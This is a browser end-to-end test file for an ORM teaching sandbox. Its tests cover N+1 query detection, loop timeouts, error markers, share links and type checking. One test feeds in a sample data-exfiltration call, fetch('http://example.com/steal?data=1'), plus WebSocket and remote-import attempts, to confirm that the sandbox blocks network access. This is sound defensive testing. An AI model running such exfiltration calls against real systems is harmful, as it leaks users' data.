/**
 * The sandbox in the built static site: the runner worker (sql.js + ORM) answers
 * runs, the inspector reads 1 + N and names the fix, a runaway loop is stopped
 * while the page stays responsive, errors get markers, code survives a reload
 * and travels in share links, and typed declarations squiggle a typo'd field.
 *
 * Waits are on explicit states (data-ready, data-editor-state, data-run-seq),
 * never on fixed sleeps.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { expectClean, launchBrowser, saveScreenshot, startServer, type TestBrowser, type TestServer } from './harness';

let server: TestServer;
let browser: TestBrowser;

beforeAll(async () => {
  server = await startServer();
  browser = await launchBrowser({ viewport: { width: 1440, height: 900 } });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

const READY = '[data-testid="runner-status"][data-ready="true"]';
const EDITOR_READY = '[data-testid="code-editor"][data-editor-state="ready"]';

/** Opens the sandbox and waits until the database and the editor are ready. */
async function openSandbox(url = `${server.url}/sandbox`): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(url);
  await page.waitForSelector('[data-testid="sandbox"][data-restored="true"]');
  await page.waitForSelector(READY, { timeout: 90_000 });
  await page.waitForSelector(EDITOR_READY, { timeout: 60_000 });
  return page;
}

async function runCount(page: Page): Promise<number> {
  return Number(await page.getAttribute('[data-testid="results"]', 'data-run-seq'));
}

/** Clicks Run and waits for the next result to be rendered. */
async function run(page: Page): Promise<void> {
  const before = await runCount(page);
  await page.click('[data-testid="run-button"]');
  await page.waitForSelector(`[data-testid="results"][data-run-seq="${before + 1}"]`, { timeout: 30_000 });
}

/** Replaces the editor's code (as if typed in one go). */
async function setCode(page: Page, code: string): Promise<void> {
  await page.click('[data-testid="code-editor"] .view-lines');
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
  // Autosave (debounced) holds exactly what the editor holds.
  await expect.poll(() => savedCode(page)).toBe(code);
}

/** The editor's visible text, with Monaco's non-breaking spaces made plain. */
async function editorText(page: Page): Promise<string> {
  return (await page.locator('[data-testid="code-editor"] .view-lines').innerText()).replace(/\u00a0/g, ' ');
}

async function savedCode(page: Page): Promise<string | null> {
  return page.evaluate(() => localStorage.getItem('orm-lab:sandbox:code'));
}

test('the N+1 example: 1 + N statements, "101 queries" on the loop line, and a finding naming select_related', async () => {
  browser.log.clear();
  const page = await openSandbox();
  await run(page);

  await expect.poll(() => page.textContent('[data-testid="summary-statements"]')).toBe('101');
  expect(await page.getAttribute('[data-testid="summary"]', 'data-statements')).toBe('101');
  const finding = page.locator('[data-testid="finding"][data-kind="n_plus_one"]').first();
  expect(await finding.textContent()).toContain("select_related('author')");
  expect(await finding.textContent()).toContain('Post.author');
  // The lazy loads fold into one "× 100 similar" group.
  expect(await page.getAttribute('[data-testid="similar-block"]', 'data-count')).toBe('100');
  // The loop line carries the count, inline in the editor.
  await expect
    .poll(async () => (await page.locator('.orm-query-hint').allTextContents()).map((t) => t.replace(/\u00a0/g, ' ').trim()))
    .toContain('101 queries');
  // The output pane shows what was printed.
  expect(await page.locator('[data-testid="output"] li').count()).toBe(100);

  const paint = await page.getAttribute('[data-testid="paint-probe"]', 'data-run-to-paint-ms');
  const sql = await page.getAttribute('[data-testid="paint-probe"]', 'data-sql-ms');
  console.log(`N+1 example: run click → results painted ${paint} ms (statements' own time ${sql} ms)`);
  await saveScreenshot(page, 'sandbox-n-plus-one');

  // The fix: one query (two at most).
  await setCode(page, "const posts = Post.objects.select_related('author').order_by('-created_at').slice(0, 100);\nfor (const post of posts) print(post.title, '—', post.author.username);");
  await run(page);
  await expect.poll(async () => Number(await page.textContent('[data-testid="summary-statements"]'))).toBeLessThanOrEqual(2);
  expect(await page.locator('[data-testid="finding"][data-kind="n_plus_one"]').count()).toBe(0);

  // EXPLAIN QUERY PLAN of the statement, with its badge.
  await page.click('[data-testid="statement"] button[aria-expanded] >> nth=0');
  await page.click('[data-testid="explain-button"]');
  await page.waitForSelector('[data-testid="explain-plan"]');
  expect(['SCAN', 'SCAN USING INDEX', 'SEARCH USING INDEX']).toContain(await page.textContent('[data-testid="explain-badge"]'));
  await saveScreenshot(page, 'sandbox-fixed-explain');

  expectClean(browser.log);
  await page.close();
});

test('an endless loop is stopped at the time limit while the page stays responsive; the next run works', async () => {
  browser.log.clear();
  const page = await openSandbox();
  await setCode(page, 'while (true) {}');
  const started = Date.now();
  await page.click('[data-testid="run-button"]');
  await page.waitForSelector('[data-testid="stop-button"]');

  // The page's own thread is free: a tab switch happens while the worker spins.
  await page.click('[data-testid="tab-compare"]');
  expect(await page.getAttribute('[data-testid="tab-compare"]', 'aria-selected')).toBe('true');
  await page.click('[data-testid="tab-queries"]');

  await page.waitForSelector('[data-testid="run-timeout"]', { timeout: 15_000 });
  const elapsed = Date.now() - started;
  expect(elapsed).toBeGreaterThanOrEqual(4_500);
  expect(elapsed).toBeLessThan(8_000);
  expect(await page.textContent('[data-testid="run-timeout"]')).toContain('Stopped after 5 s');
  await saveScreenshot(page, 'sandbox-timeout');

  // A fresh worker answers the next run, with the dataset restored.
  await page.waitForSelector(READY, { timeout: 60_000 });
  await setCode(page, "print(Post.objects.count())");
  await run(page);
  await expect.poll(() => page.textContent('[data-testid="summary-statements"]')).toBe('1');
  expect(await page.locator('[data-testid="output"] li').first().textContent()).toBe('2000');
  expectClean(browser.log);
  await page.close();
});

test('a syntax error is reported with its line and marked in the editor', async () => {
  browser.log.clear();
  const page = await openSandbox();
  await setCode(page, "print('ok');\nconst broken = ;\nprint('never');");
  await run(page);
  await page.waitForSelector('[data-testid="run-error"][data-error-type="SyntaxError"]');
  expect(await page.textContent('[data-testid="run-error"]')).toContain('line 2');
  await page.waitForSelector('[data-testid="code-editor"] .squiggly-error');
  await saveScreenshot(page, 'sandbox-syntax-error');
  expectClean(browser.log);
  await page.close();
});

test('learner code cannot reach the network', async () => {
  browser.log.clear();
  const page = await openSandbox();
  await setCode(page, "print('before');\nfetch('http://example.com/steal?data=1');");
  await run(page);
  await page.waitForSelector('[data-testid="run-error"]');
  expect(await page.textContent('[data-testid="run-error"]')).toContain('fetch() is disabled in ORM Lab');
  await setCode(page, "const ws = new WebSocket('ws://example.com');");
  await run(page);
  await expect.poll(() => page.textContent('[data-testid="run-error"]')).toContain('WebSocket is disabled in ORM Lab');
  await setCode(page, "import('http://example.com/x.js');");
  await run(page);
  await expect.poll(() => page.textContent('[data-testid="run-error"]')).toContain('import() is disabled in ORM Lab');
  expect(browser.log.requests.filter((u) => u.includes('example.com'))).toEqual([]);
  expectClean(browser.log);
  await page.close();
});

test('the code survives a reload, and a share link reopens the same code', async () => {
  browser.log.clear();
  const page = await openSandbox();
  const code = "// kept across reloads\nprint(Author.objects.filter({ is_active: true }).count());";
  await setCode(page, code);
  await expect.poll(() => savedCode(page)).toBe(code);

  await page.reload();
  await page.waitForSelector('[data-testid="sandbox"][data-restored="true"]');
  await page.waitForSelector(EDITOR_READY, { timeout: 60_000 });
  await expect.poll(() => editorText(page)).toContain('// kept across reloads');

  await page.click('[data-testid="share-button"]');
  const link = await page.inputValue('[data-testid="share-url"]');
  expect(link).toMatch(/\/sandbox#code=/);
  await page.close();

  // Another visitor (fresh storage) opens the link.
  const other = await launchBrowser({ viewport: { width: 1280, height: 800 } });
  try {
    const shared = await other.newPage();
    await shared.goto(link);
    await shared.waitForSelector('[data-testid="sandbox"][data-restored="true"]');
    await shared.waitForSelector(EDITOR_READY, { timeout: 60_000 });
    await expect.poll(() => editorText(shared)).toContain('// kept across reloads');
    expect(await savedCode(shared)).toBe(code);
    expectClean(other.log);
  } finally {
    await other.close();
  }
  expectClean(browser.log);
});

test("a typo'd field is squiggled before running (typed declarations)", async () => {
  browser.log.clear();
  const page = await openSandbox();
  const typed = await page.getAttribute('[data-testid="sandbox"]', 'data-typed-declarations');
  if (typed !== 'true') {
    console.log('skipped: the learner API declarations are the untyped fallback');
    await page.close();
    return;
  }
  await setCode(page, "print(Post.objects.filter({ titel: 'x' }).count());");
  await page.waitForSelector('[data-testid="code-editor"] .squiggly-error', { timeout: 30_000 });
  await saveScreenshot(page, 'sandbox-typo-squiggle');
  expectClean(browser.log);
  await page.close();
});
